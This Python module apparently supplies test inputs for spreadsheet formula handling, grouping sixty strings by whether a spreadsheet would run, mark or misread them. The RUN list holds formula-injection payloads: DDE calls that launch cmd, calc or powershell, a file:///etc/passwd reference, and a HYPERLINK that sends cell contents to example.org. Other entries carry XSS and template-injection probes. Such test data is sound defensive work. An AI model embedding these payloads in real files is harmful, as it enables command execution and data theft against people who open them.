"""Sixty texts that a spreadsheet may run, misread or lose, and how they stand in a file that was opened again."""

from __future__ import annotations

from framework.ground.reading.texts import clean

RUN = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/c powershell'!A1",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    '=WEBSERVICE("http://example.org")',
    '=IMPORTXML("http://example.org","//a")',
    '=IMAGE("http://example.org/x.png")',
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\calc.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc'!A",
    "='file:///etc/passwd'#$passwd.A1",
    "=SUM(A1:A9)",
    "=A1",
    "=-5",
    "=",
    "= 1+1",
    "==1",
    '="a";"b"',
    "{=1+1}",
    "=1+1;=2+2",
    "@SUM(A1:A2)",
    "@A1",
    "@",
    "+1+cmd|' /C calc'!A0",
    "+A1",
    "+(0)8 123",
    "+",
    "++1",
    "-1+cmd|' /C calc'!A0",
    "-A1",
    "-5+3",
    "-",
    "-2-3",
    "--5",
)
MARKED = ("'=1+1", "''=1+1", "'@x", "'-A1")
NUMBERS = ("-5", "+5", "-1.5", "-1,5", "+46 8 123", "+46 8 123 456 78", "+46,8")
PLAIN = (
    "0045",
    "12345678901234567890",
    "1E5",
    "2026-01-02",
    "1/2",
    "TRUE",
    "'s-Hertogenbosch",
    "'-5",
    "a=1",
    "http://example.org",
    "https://example.org/=1",
    "\uff1d1+1",
    'quo"te, comma; semicolon',
    "<script>alert(1)</script>",
    "&amp; {{7*7}} %s %(x)s",
)
PAYLOADS = (*RUN, *MARKED, *NUMBERS, *PLAIN)


def cleaned(text: str) -> str:
    """A text as it is after somebody's file was read: white space at the ends is gone."""
    return clean(text).text
